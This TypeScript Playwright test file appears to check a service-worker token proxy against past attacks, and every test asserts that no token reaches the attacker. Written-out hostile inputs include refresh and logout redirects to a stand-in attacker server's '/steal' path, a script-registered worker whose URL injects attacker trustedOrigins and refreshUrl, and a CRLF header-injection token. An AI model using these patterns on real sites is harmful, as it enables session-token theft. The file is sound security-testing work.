import { startDemoServer, type DemoServer } from '../demo/server/app.js'
import { authorizations, expect, loginThroughPage, registerFromPage, serveWorkerFile, storedTokens, test, workerQuery } from './fixtures.js'
import { needs } from './engines/limits.js'

/**
 * Attacks that once worked, each with the behaviour it breaks. The README's
 * security table names these specs.
 */

/** Another origin on this machine, standing for the attacker's server. */
async function withAttacker(run: (attacker: DemoServer) => Promise<void>): Promise<void> {
  const attacker = await startDemoServer()
  try {
    await run(attacker)
  } finally {
    await attacker.close()
  }
}

/** What the attacker's server received that carries a credential: a token, a cookie or a body. */
const loot = (attacker: DemoServer) =>
  attacker.requests.filter((r) => r.authorization || r.headers.cookie || r.bodySha256).map((r) => `${r.method} ${r.path}`)

test.describe('B17 session boundaries', () => {
  test("a login whose answer has no refresh token does not inherit the previous session's", async ({ page, server, openConsole }) => {
    await openConsole(page, 'stay')
    await loginThroughPage(page, { user: 'ada' })
    const ada = (await storedTokens(page)) as { refreshToken: string }
    expect(ada.refreshToken).toEqual(expect.any(String))

    expect(await loginThroughPage(page, { user: 'grace', remember: false })).toMatchObject({ status: 200, body: { user: 'grace' } })
    const grace = (await storedTokens(page)) as Record<string, unknown>
    expect(grace).not.toHaveProperty('refreshToken')
    expect(await page.evaluate(async () => ((await (await fetch('/api/me')).json()) as { user: string }).user)).toBe('grace')

    // Grace's token expires: her session has nothing to refresh with, so it ends.
    // Ada's refresh token must never be presented on her behalf.
    server.auth.expireAccessTokens()
    expect(await page.evaluate(async () => (await fetch('/api/me?expired')).status)).toBe(401)
    expect(server.requestsTo('/api/auth/refresh')).toEqual([])
    expect(await storedTokens(page)).toBeUndefined()
  })
})

test.describe('B13 vault: paths the server takes for its token endpoints', () => {
  for (const path of ['/api/auth/login/', '/api//auth/login', '/API/auth/login', '/api/auth//login//']) {
    test(`B13 a login at ${path} is kept by the worker and gets no token injected`, async ({ page, server, openConsole }) => {
      await openConsole(page, 'stay')
      await loginThroughPage(page, { user: 'ada' })
      const answer = await loginThroughPage(page, { user: 'grace', path })
      expect(answer).toEqual({ status: 200, proxy: null, body: { user: 'grace' } })
      const arrived = server.requests.filter((r) => r.path === path)
      expect(arrived.map((r) => r.authorization)).toEqual([null])
      const stored = (await storedTokens(page)) as { accessToken: string }
      expect(JSON.stringify(answer)).not.toContain(stored.accessToken)
      expect(await page.evaluate(async () => ((await (await fetch('/api/me')).json()) as { user: string }).user)).toBe('grace')
    })
  }

  test("B13 with the 'cookie' protocol, a page's own refresh at /api/auth/refresh/ gets no token and none is injected", async ({ page }) => {
    needs('secureCookieOverHttp')
    const server = await startDemoServer({ accessTtlMs: 60_000, refreshMode: 'cookie' })
    try {
      await page.goto(`${server.url}/console?stay&${workerQuery({ refreshProtocol: 'cookie' })}`)
      await expect(page.locator('#state')).toHaveAttribute('data-ready', 'true')
      await loginThroughPage(page)
      // (Variants the refresh cookie's Path=/api/auth still covers.)
      for (const path of ['/api/auth/refresh/', '/api/auth//refresh']) {
        const own = await page.evaluate(async (path) => {
          const response = await fetch(path, { method: 'POST' })
          return { status: response.status, body: await response.json() }
        }, path)
        expect(own, path).toEqual({ status: 200, body: {} })
        expect(authorizations(server, path), path).toEqual([null])
      }
    } finally {
      await server.close()
    }
  })
})

test.describe('B13 vault: token answers under any label', () => {
  for (const type of ['text/plain', 'text/html', null, 'application/x-json']) {
    test(`B13 a login whose tokens come as JSON served as ${type ?? 'no Content-Type'} hands the page none; the worker keeps them`, async ({ page, server, openConsole }) => {
      // A login endpoint of the server's own, labelling its JSON answer as it likes.
      server.mount('/odd', (req, res) => {
        req.resume()
        const { accessToken, refreshToken, expiresIn } = server.auth.login('ada')
        res.writeHead(200, type ? { 'Content-Type': type } : {})
        res.end(JSON.stringify({ user: 'ada', accessToken, refreshToken, expiresIn }))
      })
      await openConsole(page, `stay&${workerQuery({ loginUrl: '/odd/login' })}`)
      expect(await loginThroughPage(page, { path: '/odd/login' })).toEqual({ status: 200, proxy: null, body: { user: 'ada' } })
      expect(await storedTokens(page)).toMatchObject({ accessToken: expect.any(String), refreshToken: expect.any(String) })
      expect(await page.evaluate(async () => (await fetch('/api/me')).status)).toBe(200)
    })
  }
})

test.describe('B10 expiries the worker does not believe', () => {
  test('B10 setTokens with an expiresAt past the range of a Date keeps a real date, a year away at most', async ({ page, server, openConsole }) => {
    await openConsole(page)
    const { accessToken, refreshToken } = server.auth.login('ada')
    const session = await page.evaluate(async (tokens) => {
      await window.tokenProxy.setTokens({ ...tokens, expiresAt: 1e300 })
      const { active, expiresAt } = await window.tokenProxy.session()
      return { active, expiresAt, date: new Date(expiresAt!).toISOString(), now: Date.now() }
    }, { accessToken, refreshToken })
    expect(session.active).toBe(true)
    expect(session.expiresAt! - session.now).toBeLessThanOrEqual(365 * 86_400_000)
    expect(session.date).toMatch(/^\d{4}-/)
  })
})

test.describe('B13 vault: redirects', () => {
  test('B13 an API path that 307s to the login endpoint hands the page no token and does not switch the session', async ({ page, server, openConsole }) => {
    await openConsole(page, 'stay')
    await loginThroughPage(page, { user: 'ada' })
    const ada = await storedTokens(page)
    const answer = await loginThroughPage(page, { user: 'mallory', path: '/api/redirect?status=307&to=/api/auth/login' })
    expect(server.requestsTo('/api/auth/login').map((r) => r.status)).toEqual([200, 200])
    expect(answer).toEqual({ status: 502, proxy: 'token-endpoint-redirect', body: { error: 'token_endpoint_redirect', reason: expect.any(String) } })
    expect(await storedTokens(page)).toEqual(ada)
  })

  test('B8 a refresh endpoint that redirects is unavailable: the refresh token is not re-posted elsewhere', async ({ page, server, openConsole, login }) => {
    await withAttacker(async (attacker) => {
      await openConsole(page, 'stay')
      const tokens = await login(page)
      server.faults.refreshFailure = 'redirect'
      server.faults.refreshRedirectTo = `${attacker.url}/steal`
      server.auth.expireAccessTokens()
      const answer = await page.evaluate(async () => {
        const response = await fetch('/api/me')
        return { status: response.status, proxy: response.headers.get('X-Token-Proxy'), body: await response.json() }
      })
      expect(answer).toEqual({ status: 503, proxy: 'refresh-unavailable', body: { error: 'token_refresh_unavailable', reason: 'the refresh endpoint redirected' } })
      expect(server.requestsTo('/api/auth/refresh').map((r) => r.status)).toEqual([307])
      expect(attacker.requests).toEqual([])
      expect(await storedTokens(page)).toMatchObject({ refreshToken: tokens.refreshToken })
    })
  })

  test('B8 a logout endpoint that redirects is not followed with the token; the session still ends here', async ({ page, server, openConsole, login }) => {
    await withAttacker(async (attacker) => {
      // The logout endpoint answers 307 to the attacker: the demo's /api/redirect stands in for it.
      const logoutUrl = `/api/redirect?status=307&to=${encodeURIComponent(`${attacker.url}/steal`)}`
      await openConsole(page, `stay&${workerQuery({ logoutUrl })}`)
      await login(page)
      await page.evaluate(() => window.tokenProxy.logout())
      expect(server.requestsTo('/api/redirect').map((r) => r.status)).toEqual([307])
      expect(attacker.requests).toEqual([])
      expect(await storedTokens(page)).toBeUndefined()
    })
  })
})

test.describe('B2 redirects of API requests', () => {
  test('B2 a same-origin redirect out of apiPrefix keeps the token (Fetch keeps Authorization within an origin); a cross-origin one drops it', async ({ page, server, openConsole, login }) => {
    await withAttacker(async (attacker) => {
      await openConsole(page)
      const { accessToken } = await login(page)
      const seen = await page.evaluate(async (elsewhere) => {
        const same = (await (await fetch('/api/redirect?to=/apix/echo')).json()) as { authorization: string | null }
        const other = (await (await fetch(`/api/redirect?to=${encodeURIComponent(elsewhere)}`)).json()) as { authorization: string | null }
        return [same.authorization, other.authorization]
      }, `${attacker.url}/apix/echo`)
      // The worker cannot see where a redirect goes before the browser follows it
      // (a manual redirect is opaque to it): the README says so.
      expect(seen).toEqual([`Bearer ${accessToken}`, null])
      // Firefox asks the other origin with a CORS preflight first (measured in Firefox 153); it carries no token either.
      expect(attacker.requestsTo('/apix/echo').filter((r) => r.method !== 'OPTIONS').map((r) => r.authorization)).toEqual([null])
      expect(attacker.requestsTo('/apix/echo').every((r) => r.authorization === null)).toBe(true)
    })
  })

  test("B3 a 401 from a redirect target on another origin is that origin's answer: no refresh, no replay", async ({ page, server, openConsole, login }) => {
    await withAttacker(async (attacker) => {
      await openConsole(page, 'stay')
      await login(page)
      const status = await page.evaluate(async (elsewhere) => (await fetch(`/api/redirect?to=${encodeURIComponent(elsewhere)}`)).status, `${attacker.url}/api/me`)
      expect(status).toBe(401)
      expect(server.requestsTo('/api/auth/refresh')).toEqual([])
      expect(server.requestsTo('/api/redirect')).toHaveLength(1)
      expect(await page.evaluate(() => window.tokenProxyEvents)).toEqual([])
    })
  })
})

test.describe('B2 hostile registrations', () => {
  test('B2 a worker registered by page script with trustedOrigins and refreshUrl in its URL sends nothing to them, now or on later visits', async ({ page, context, server, openConsole }) => {
    await withAttacker(async (attacker) => {
      await openConsole(page, 'stay')
      await loginThroughPage(page)
      // What an injected script does: register the standalone worker with its own options, for another scope.
      const hostile = `/sw.js?apiPrefix=/&trustedOrigins=${encodeURIComponent(attacker.url)}&refreshUrl=${encodeURIComponent(`${attacker.url}/steal`)}`
      await registerFromPage(page, hostile, '/twin/')

      // A later visit to that scope, long after the injected script is gone.
      const visit = await context.newPage()
      await visit.goto(`${server.url}/twin/a?manual`)
      expect(await visit.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toContain('trustedOrigins')
      server.auth.expireAccessTokens()
      const statuses = await visit.evaluate(
        async (elsewhere) => [(await fetch(`${elsewhere}/api/echo`)).status, (await fetch('/api/me')).status, (await fetch('/anything')).status],
        attacker.url,
      )
      expect(statuses).toEqual([401, 401, 404])
      expect(loot(attacker)).toEqual([])
      expect(authorizations(server, '/api/me')).toEqual([null])
      expect(authorizations(server, '/anything')).toEqual([null])
    })
  })

  test('B2 a worker registered by page script with a same-origin sink as refreshUrl finds no session; the app removes it when it next registers', async ({ page, context, server, openConsole }) => {
    await openConsole(page, 'stay')
    await loginThroughPage(page)
    // An endpoint that keeps what it is posted (here /api/echo, which answers with its hash) as the refresh endpoint, every path as the API.
    await registerFromPage(page, '/sw.js?apiPrefix=%2F&refreshUrl=%2Fapi%2Fecho', '/twin/')

    // A later visit to that scope, after the access token expired, long after the injected script is gone.
    const visit = await context.newPage()
    await visit.goto(`${server.url}/twin/a?manual`)
    expect(await visit.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toContain('refreshUrl=%2Fapi%2Fecho')
    server.auth.expireAccessTokens()
    expect(await visit.evaluate(async () => [(await fetch('/api/me')).status, (await fetch('/anything')).status])).toEqual([401, 404])
    expect(server.requestsTo('/api/echo')).toEqual([])
    expect(authorizations(server, '/api/me')).toEqual([null])
    expect(authorizations(server, '/anything')).toEqual([null])

    // Any page of the app registers the app's worker: the copy goes, and this tab is the app's again, session and all.
    await visit.goto(`${server.url}/twin/b?stay`)
    await expect(visit.locator('#state')).toHaveAttribute('data-ready', 'true')
    expect(await visit.evaluate(async () => (await navigator.serviceWorker.getRegistrations()).map((r) => new URL(r.scope).pathname))).toEqual(['/'])
    expect(await visit.evaluate(async () => (await fetch('/api/me')).status)).toBe(200)
    expect(server.requestsTo('/api/auth/refresh').map((r) => r.status)).toEqual([200])
    expect(server.requestsTo('/api/echo')).toEqual([])
  })

  test('B2 a worker file that carries its options refuses a URL with options of its own', async ({ page, context, server, openConsole }) => {
    await openConsole(page, `stay&${await serveWorkerFile(server, {})}`)
    await loginThroughPage(page)
    await registerFromPage(page, '/sw-options.js?apiPrefix=/', '/twin/')
    const visit = await context.newPage()
    await visit.goto(`${server.url}/twin/a?manual`)
    expect(await visit.evaluate(() => navigator.serviceWorker.controller?.scriptURL)).toBe(`${server.url}/sw-options.js?apiPrefix=/`)
    expect(await visit.evaluate(async () => [(await fetch('/anything')).status, (await fetch('/api/me')).status])).toEqual([404, 401])
    expect(authorizations(server, '/anything')).toEqual([null])
    expect(authorizations(server, '/api/me')).toEqual([null])
    // The file as served, without a query, works as ever.
    expect(await page.evaluate(async () => (await fetch('/api/me')).status)).toBe(200)
  })
})

test.describe('B14 bad input: tokens no header can carry', () => {
  test('setTokens rejects an access token with a line break, or one too long for a header', async ({ page, server, openConsole }) => {
    await openConsole(page)
    const errors = await page.evaluate(async () => {
      const out: string[] = []
      for (const accessToken of ['a\r\nX-Injected: 1', 'a b', 'x'.repeat(10 * 1024 * 1024)]) {
        await window.tokenProxy.setTokens({ accessToken }).then(
          () => out.push('accepted'),
          (error: Error) => out.push(`${error.name}: ${error.message}`),
        )
      }
      return out
    })
    expect(errors).toEqual(Array(3).fill(expect.stringMatching(/^TokenProxyOptionsError: Failed to set the tokens: `accessToken` must be/)))
    // Nothing was stored: API requests still go out as a logged-out page's do.
    expect(await page.evaluate(async () => (await fetch('/api/me')).status)).toBe(401)
    expect(authorizations(server, '/api/me')).toEqual([null])
  })
})
